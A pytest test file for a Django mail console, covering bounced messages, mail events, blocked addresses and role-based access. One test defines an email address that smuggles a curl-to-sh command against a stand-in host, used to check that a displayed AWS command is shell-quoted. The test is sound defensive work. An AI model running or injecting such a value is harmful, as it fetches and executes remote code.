"""The console's pages of what became of mails, and of the addresses that get none."""

from __future__ import annotations

import shlex
from html import unescape

import pytest
from django.contrib.auth.models import User
from django.core.validators import validate_email
from django.test import Client

from jada.console.roles import make_roles
from jada.mail import inbox
from jada.mail.enums import EventKind, Trouble
from jada.mail.events import Told
from jada.mail.models import BlockedAddress, MailEvent, Message
from tests.factories.bookings import NOW
from tests.jada.mail.test_inbox import BOUNCE, DANA, hear, owe, told

pytestmark = pytest.mark.django_db

EVENTS, BLOCKS, MESSAGES = "/admin/mail/mailevent/", "/admin/mail/blockedaddress/", "/admin/mail/message/"


@pytest.fixture
def console(ops: User, client: Client) -> Client:
    client.force_login(ops)
    return client


def as_(role: str, client: Client) -> Client:
    from django.contrib.auth.models import Group

    make_roles()
    user = User.objects.create_user(role, is_staff=True)
    user.groups.add(Group.objects.get(name=role))
    client.force_login(user)
    return client


def page(client: Client, address: str) -> str:
    answer = client.get(address)
    assert answer.status_code == 200, address
    return answer.content.decode()


def test_a_message_shows_what_became_of_it_and_in_whose_words(console: Client) -> None:
    message = owe()
    hear(told(message, **BOUNCE | {"detail": {"bounceType": "Permanent", "diagnosticCode": "550 no such user"}}))

    html = page(console, f"{MESSAGES}{message.pk}/change/")

    assert '<span class="pill pill-bad">Bounced</span>' in html
    assert "Diagnostic code: 550 no such user" in html


def test_bounced_messages_are_one_press_away(console: Client) -> None:
    hear(told(owe("test:1"), **BOUNCE))
    owe("test:2")

    html = page(console, f"{MESSAGES}?bounced_at__isnull=False")

    assert html.count('<span class="pill pill-bad">Bounced</span>') == 1
    assert "Waiting" not in html.partition("<tbody>")[2]


def test_the_events_say_what_was_refused_and_why(console: Client) -> None:
    inbox.keep(told=[Told(identity="x", problem="It is no notification.")], at=NOW)
    hear(told(owe(), EventKind.DELIVERY))

    html = page(console, f"{EVENTS}?kind__exact=Other")

    assert "It is no notification." in html
    assert "Delivered" not in html.partition("<tbody>")[2]


@pytest.mark.parametrize("kind", [EventKind.SEND, EventKind.OPEN, EventKind.OTHER])
def test_every_event_has_a_page(console: Client, kind: EventKind) -> None:
    hear(told(owe(), kind))

    page(console, f"{EVENTS}{MailEvent.objects.get().pk}/change/")


def test_an_event_of_no_mail_of_ours_says_so(console: Client) -> None:
    message = owe()
    hear(told(message, effect_no=999_999, provider_id="unknown"))

    assert "No mail of ours" in page(console, EVENTS)


def test_a_blocked_address_says_why_since_when_and_how_to_free_it_at_the_service(console: Client) -> None:
    hear(told(owe(), **BOUNCE))

    html = page(console, f"{BLOCKS}{BlockedAddress.objects.get().pk}/change/")

    assert "Mail to it bounces" in html
    assert f"aws sesv2 delete-suppressed-destination --email-address {DANA}" in html
    assert "To the guest: booked" in html


def test_the_command_for_the_mail_service_runs_nothing_that_stands_in_an_address(console: Client) -> None:
    hostile = "`curl${IFS}evil.example|sh`@mail.example"
    validate_email(hostile)  # a guest may well be booked with it
    block = BlockedAddress.objects.create(address=hostile, trouble=Trouble.BOUNCED, since=NOW)

    html = unescape(page(console, f"{BLOCKS}{block.pk}/change/"))

    command = next(line for line in html.splitlines() if "delete-suppressed-destination" in line)
    said = command[command.index("aws sesv2") :].partition("</")[0]
    assert shlex.split(said)[-1] == hostile
    assert f"'{hostile}'" in said


def test_the_office_lifts_a_block(console: Client) -> None:
    BlockedAddress.objects.create(address=DANA, trouble=Trouble.BOUNCED, since=NOW)
    block = BlockedAddress.objects.get()

    console.post(BLOCKS, {"action": "mail_again", "_selected_action": [block.pk]})

    block.refresh_from_db()
    assert (inbox.blocked(DANA), block.lifted_by) == (None, "ops")
    assert "Lifted" in page(console, f"{BLOCKS}?e=1")


def test_a_reader_sees_no_address(client: Client) -> None:
    hear(told(owe(), **BOUNCE))
    reader = as_("Read-only", client)

    assert [reader.get(address).status_code for address in (EVENTS, BLOCKS)] == [403, 403]
    assert DANA not in page(reader, f"{MESSAGES}{Message.objects.get().pk}/change/")


def test_a_coordinator_sees_and_lifts(client: Client) -> None:
    hear(told(owe(), **BOUNCE))
    coordinator = as_("Coordinator", client)
    assert DANA in page(coordinator, BLOCKS)

    coordinator.post(BLOCKS, {"action": "mail_again", "_selected_action": [BlockedAddress.objects.get().pk]})

    assert inbox.blocked(DANA) is None
